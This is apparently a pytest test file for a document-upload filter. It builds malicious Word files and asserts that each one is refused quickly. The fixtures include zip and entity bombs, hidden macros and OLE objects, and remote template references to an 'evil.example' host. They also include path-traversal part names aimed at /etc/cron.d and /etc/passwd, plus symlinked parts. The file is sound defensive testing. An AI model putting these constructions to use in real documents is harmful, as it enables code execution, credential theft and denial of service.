"""Office files that are made to do harm: bombs, macros, hidden objects, two files in one. None comes in."""

from __future__ import annotations

import io
import struct
import time
import tracemalloc
import zipfile
import zlib

import pytest
from hypothesis import given
from hypothesis import strategies as st

from app.files.kinds import DOCX
from app.files.packed import MOST_PARTS
from tests.files.made import CONTENT_TYPES, DOCUMENT, excel, packed, with_parts, word
from tests.files.test_taking import outcome, refusal, taken

MEGABYTE = 1024 * 1024
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(500)
LAUGHS = b'<?xml version="1.0"?><!DOCTYPE w [<!ENTITY a "lol"><!ENTITY b "&a;&a;&a;&a;">]><w>&b;</w>'
RELATION = (
    b'<Relationships><Relationship Id="r1" Type="http://x/%b" Target="%b" TargetMode="External"/></Relationships>'
)
BOMB = with_parts({f"word/media/{at}.bin": bytes(9 * MEGABYTE) for at in range(30)})


def external(kind: bytes, target: bytes) -> bytes:
    return with_parts({"word/_rels/settings.xml.rels": RELATION % (kind, target)})


HARMFUL = {
    "a zip bomb in a Word file": (BOMB, "unpacks to far more"),
    "one part that unpacks to much": (with_parts({"word/media/a.bin": bytes(40 * MEGABYTE)}), "unpacks to far more"),
    "too many parts": (with_parts({f"word/{at}.xml": b"" for at in range(MOST_PARTS)}), "unpacks to far more"),
    "a docx bomb of entities": (with_parts({"word/styles.xml": LAUGHS}), "declares entities"),
    "entities in UTF-16": (with_parts({"word/styles.xml": LAUGHS.decode().encode("utf-16")}), "declares entities"),
    "macros": (with_parts({"word/vbaProject.bin": OLE}), "holds macros"),
    "macros by another name": (
        packed({"[Content_Types].xml": CONTENT_TYPES.replace(b"/>", b'><a ContentType="x.macroEnabled"/></Types>'),
                "word/document.xml": DOCUMENT}), "holds macros"),
    "an object": (with_parts({"word/embeddings/oleObject1.bin": OLE}), "another program's file"),
    "an object by another name": (with_parts({"word/media/image1.png": OLE}), "another program's file"),
    "a program": (with_parts({"word/media/image1.png": b"MZ\x90"}), "another program's file"),
    "a control": (with_parts({"word/activeX/activeX1.xml": b"<x/>"}), "another program's file"),
    "a script as an embedded file": (with_parts({"word/embeddings/run.js": b"x"}), "another program's file"),
    "macros in a sheet inside": (
        with_parts({"word/embeddings/a.xlsx": with_parts({"xl/vbaProject.bin": OLE}, "xl/workbook.xml")}),
        "holds macros"),
    "a document in a document in a document": (
        with_parts({"word/embeddings/a.docx": with_parts({"word/embeddings/b.xlsx": excel()})}),
        "another program's file"),
    "a template from the net": (external(b"attachedTemplate", b"https://evil.example/t.dotm"), "fetches a template"),
    "an object from the net": (external(b"oleObject", b"mhtml:http://evil.example/x!x"), "fetches a template"),
    **{f"a template from {said.decode()}": (external(b"attachedTemplate", said), "fetches a template") for said in (
        b"\\\\evil\\s\\x.dotm", b"//evil/s/x.dotm", b"file:///\\\\evil\\s\\x.dotm", b"file://evil/s/x.dotm",
        b"file:////evil/s/x.dotm", b"&#104;ttp://evil.example/t.dotm", b" HTTPS://evil.example/t.dotm",
        b"C:\\\\evil\\x.dotm")},
    "a template by a type in numbers": (
        external(b"attached&#84;emplate", b"https://evil.example/t.dotm"), "fetches a template"),
    "a template that is not called external": (
        with_parts({"word/_rels/settings.xml.rels": (RELATION % (b"attachedTemplate", b"\\\\evil\\s\\x.dotm"))
                    .replace(b' TargetMode="External"', b"")}), "fetches a template"),
    "a template in capital letters": (
        with_parts({"word/_rels/settings.xml.RELS": RELATION % (b"attachedTemplate", b"https://evil.example/t.dotm")}),
        "fetches a template"),
    "an object from a drive": (external(b"oleObject", b"file:///C:\\a.xlsx"), "fetches a template"),
    "a picture from another machine": (external(b"image", b"file://evil/x.png"), "fetches a template"),
    "relations that cannot be read": (
        with_parts({"word/_rels/settings.xml.rels": b"<Relationships>"}), "damaged, or no ordinary one"),
    "macros by a type in numbers": (
        packed({"[Content_Types].xml": CONTENT_TYPES.replace(b"/>", b'><a ContentType="x.macro&#69;nabled"/></Types>'),
                "word/document.xml": DOCUMENT}), "holds macros"),
    "a way out": (with_parts({"../../etc/cron.d/x": b"x"}), "damaged, or no ordinary one"),
    "a way out on Windows": (with_parts({"word\\..\\..\\x": b"x"}), "damaged, or no ordinary one"),
    "a place of the machine": (with_parts({"/etc/passwd": b"x"}), "damaged, or no ordinary one"),
    "two kinds at once": (with_parts({"xl/workbook.xml": b"<x/>"}), "damaged, or no ordinary one"),
    "no list of types": (packed({"word/document.xml": DOCUMENT}), "damaged, or no ordinary one"),
    "something behind the end": (word() + b"<script>alert(1)</script>", "damaged, or no ordinary one"),
    "cut off": (word()[:-30], "damaged, or no ordinary one"),
}  # fmt: skip


@pytest.mark.parametrize("name", HARMFUL)
def test_an_office_file_that_is_made_to_do_harm_is_refused_at_once(name: str) -> None:
    content, sentence = HARMFUL[name]
    begun = time.process_time()
    tracemalloc.start()
    try:
        assert sentence in refusal(content, "policy.docx")
        assert tracemalloc.get_traced_memory()[1] < 30 * MEGABYTE
    finally:
        tracemalloc.stop()
    assert time.process_time() - begun < 10


def test_relations_that_are_made_to_take_hours_take_seconds() -> None:
    begun = time.process_time()
    for relations in (b"<Relationship " * 70_000, b"<Relationship Type='" + b"/" * 1_000_000 + b"'>", b"<" * 1_000_000):
        outcome(with_parts({"word/_rels/settings.xml.rels": relations}))
    assert time.process_time() - begun < 5


def test_parts_that_share_their_bytes_are_refused() -> None:
    """The bomb without nesting: many parts in the list, all of the same few bytes."""
    body = zlib.compressobj(9, zlib.DEFLATED, -15)
    squeezed = body.compress(bytes(MEGABYTE)) + body.flush()
    name = b"[Content_Types].xml"
    head = (20, 0, 8, 0, 0, zlib.crc32(bytes(MEGABYTE)), len(squeezed), MEGABYTE, len(name), 0)
    local = struct.pack("<4s5H3L2H", b"PK\x03\x04", *head) + name + squeezed
    listed = b""
    for at in range(100):
        other = b"word/document.xml".ljust(16, b"_") + b"%02d" % at
        numbers = (20, 20, 0, 8, 0, 0, *head[5:8], len(other), 0, 0, 0, 0, 0, 0)
        listed += struct.pack("<4s6H3L5H2L", b"PK\x01\x02", *numbers) + other
    end = struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, 100, 100, len(listed), len(local), 0)
    assert "damaged, or no ordinary one" in refusal(local + listed + end)


def test_something_hidden_between_the_parts_is_refused() -> None:
    hidden = b"<html><script>alert(1)</script></html>" * 3
    content = word()
    list_begin = struct.unpack("<L", content[-6:-2])[0]
    moved = content[:list_begin] + hidden + content[list_begin:-6]
    assert "damaged, or no ordinary one" in refusal(moved + struct.pack("<LH", list_begin + len(hidden), 0))


def test_a_comment_at_the_end_is_refused() -> None:
    target = io.BytesIO(word())
    with zipfile.ZipFile(target, "a") as packing:
        packing.comment = b"%PDF-1.7"
    assert "damaged, or no ordinary one" in refusal(target.getvalue())


def test_a_part_that_is_longer_than_it_says_is_refused() -> None:
    """What we count and what Word unpacks must be the same."""
    content = bytearray(with_parts({"word/media/a.bin": bytes(MEGABYTE)}))
    size = struct.pack("<L", MEGABYTE)
    assert content.count(size) == 2
    assert "unpacks to far more" in refusal(bytes(content).replace(size, struct.pack("<L", 10)))


def test_a_part_that_is_a_link_to_another_place_is_refused() -> None:
    target = io.BytesIO(word())
    link = zipfile.ZipInfo("word/media/image9.png")
    link.create_system, link.external_attr = 3, 0o120777 << 16
    with zipfile.ZipFile(target, "a") as packing:
        packing.writestr(link, b"/etc/passwd")
    assert "damaged, or no ordinary one" in refusal(target.getvalue())


def test_an_encrypted_part_is_refused() -> None:
    content = bytearray(word())
    content[6] |= 1
    assert "locked with a password" in refusal(bytes(content))


def test_a_template_of_the_house_does_not_matter() -> None:
    """Nearly every document of an organisation names one, on a drive that nobody else has."""
    template = external(b"attachedTemplate", b"file:///C:\\Templates\\house.dotx")
    assert taken(template).name == "evidence.docx"


def test_a_link_to_a_page_stays() -> None:
    for target in (b"https://www.example.org/policy", b"mailto:a@example.org", b"file:///C:\\a.docx", b"#part"):
        assert taken(external(b"hyperlink", target)).notes


def test_a_file_that_is_packed_without_squeezing_is_taken() -> None:
    parts = {"[Content_Types].xml": CONTENT_TYPES, "word/document.xml": DOCUMENT}
    assert taken(packed(parts, zipfile.ZIP_STORED)).name == "evidence.docx"


WORD = word()


@given(st.integers(0, len(WORD) - 1), st.integers(0, 255))
def test_a_document_with_one_wrong_byte_is_taken_or_refused(at: int, value: int) -> None:
    result = outcome(WORD[:at] + bytes([value]) + WORD[at + 1 :])
    assert result == DOCX.media_type or result.endswith(".")
